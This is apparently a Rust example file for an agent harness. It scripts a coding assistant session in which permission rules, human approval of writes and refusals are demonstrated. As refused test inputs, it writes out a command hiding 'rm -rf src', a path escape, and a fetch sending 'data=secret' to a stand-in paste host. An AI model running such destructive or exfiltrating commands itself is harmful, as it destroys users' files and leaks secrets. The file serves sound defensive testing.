//! A coding assistant's session with the governed built-in tools
//! (examples/coding/, docs/builtins.md): a scripted model reads a file, asks
//! to edit it, a reviewer accepts the "always allow writes under `src/`"
//! candidate, and the next write in `src/` is not asked again; a compound
//! command hiding `rm` and a fetch to an origin outside the egress are
//! refused. Run with `cargo run -p harnessweaver-runtime --example coding_session`;
//! runtime/tests/builtins_session.rs runs the same session and checks it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "an example: a failure is a crash with its reason")]

use std::path::{Path, PathBuf};

use harnessweaver_core::host::{Begun, CallContext, CallResult, Host, HostOptions, Principal};
use serde_json::{json, Value};

/// What happened in the session, step by step: `(what, result)`.
pub struct Session {
    /// The harness directory the session ran in (a copy of examples/coding).
    pub dir: PathBuf,
    /// Each step's description and outcome.
    pub steps: Vec<(String, Value)>,
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

fn run(host: &Host, tool: &str, args: Value, ctx: &CallContext) -> CallResult {
    match host.begin(tool, args, ctx).unwrap() {
        Begun::Refused(r) | Begun::Pending(r) => r,
        Begun::Allowed(ticket) => {
            let outcome = host.run_transport(&ticket);
            host.finish_transport(ticket, outcome)
        }
    }
}

fn summary(r: &CallResult) -> Value {
    json!({"decision": r.decision, "code": r.code, "message": r.message, "output": r.output, "reasons": r.reasons,
        "candidates": r.approval.as_ref().map(|a| serde_json::to_value(&a.candidates).unwrap())})
}

/// Runs the session in a copy of `examples/coding` under `into`.
pub fn session(into: &Path) -> Session {
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/coding");
    let dir = into.join("coding");
    let _ = std::fs::remove_dir_all(&dir);
    copy_dir(&source, &dir);
    let options = HostOptions { backends: Some(harnessweaver_runtime::RuntimeBackends::shared(Default::default())), ..HostOptions::default() };
    let host = Host::load(&dir.join("harness.yaml"), options).unwrap_or_else(|e| panic!("{}", e.text()));
    let model = Principal { id: "assistant".into(), ..Principal::default() };
    let reviewer = Principal { id: "bob".into(), roles: vec!["reviewer".into()], ..Principal::default() };
    let ctx = CallContext { principal: model, run_id: Some(host.new_run().unwrap()), ..CallContext::default() };
    let mut steps = Vec::new();
    let mut step = |what: &str, value: Value| steps.push((what.to_string(), value));

    let r = run(&host, "read_file", json!({"path": "src/lib.rs"}), &ctx);
    step("the model reads src/lib.rs", summary(&r));
    let r = run(&host, "edit_file", json!({"path": "src/lib.rs", "old_text": "Helo", "new_text": "Hello"}), &ctx);
    step("it asks to fix the typo: a write needs a human, who is offered candidates", summary(&r));
    let approval = r.approval.clone().expect("the edit waits for approval");
    let under_src = approval.candidates.iter().find(|c| c.paths == ["src/**"]).expect("a candidate for writes under src/");
    let accepted = host.request("accept_candidate", &json!({"id": approval.id, "candidate": under_src.id, "approver": reviewer.to_value()})).unwrap();
    step("the reviewer accepts \"always allow writes under src/\"", accepted);
    let r = run(&host, "edit_file", json!({"path": "src/lib.rs", "old_text": "Helo", "new_text": "Hello"}), &ctx);
    step("the edit runs", summary(&r));
    let r = run(
        &host,
        "write_file",
        json!({"path": "src/farewell.rs", "content": "/// Says goodbye.\npub fn bye() -> &'static str {\n    \"Bye!\"\n}\n"}),
        &ctx,
    );
    step("a new file under src/ is written without asking again", summary(&r));
    let r = run(&host, "run_command", json!({"argv": ["grep", "-n", "Hello", "src/lib.rs"]}), &ctx);
    step("grep, allowed by an access rule, runs as argv", summary(&r));
    let r = run(&host, "run_command", json!({"command": "ls src; rm -rf src"}), &ctx);
    step("a compound command hiding rm is refused before any prompt", summary(&r));
    let r = run(&host, "run_command", json!({"argv": ["rm", "-fr", "src"]}), &ctx);
    step("rm itself is denied, whatever was accepted", summary(&r));
    let r = run(&host, "write_file", json!({"path": "../escape.txt", "content": "x"}), &ctx);
    step("a path out of the workspace is refused", summary(&r));
    let r = run(&host, "fetch", json!({"url": "https://pastebin.example/upload?data=secret"}), &ctx);
    step("a fetch to an origin outside the egress is denied", summary(&r));
    let permissions = std::fs::read_to_string(dir.join("permissions.yaml")).unwrap_or_default();
    step("the permission file, for review", Value::String(permissions));
    Session { dir, steps }
}

#[allow(dead_code, reason = "the example's entry point; the test includes this file for `session`")]
fn main() {
    let s = session(&std::env::temp_dir().join(format!("hw-coding-session-{}", std::process::id())));
    for (what, value) in &s.steps {
        println!("== {what}");
        match value {
            Value::String(text) => println!("{text}"),
            other => println!("{}", serde_json::to_string_pretty(other).unwrap()),
        }
    }
    println!("== src/lib.rs now\n{}", std::fs::read_to_string(s.dir.join("workspace/src/lib.rs")).unwrap());
}
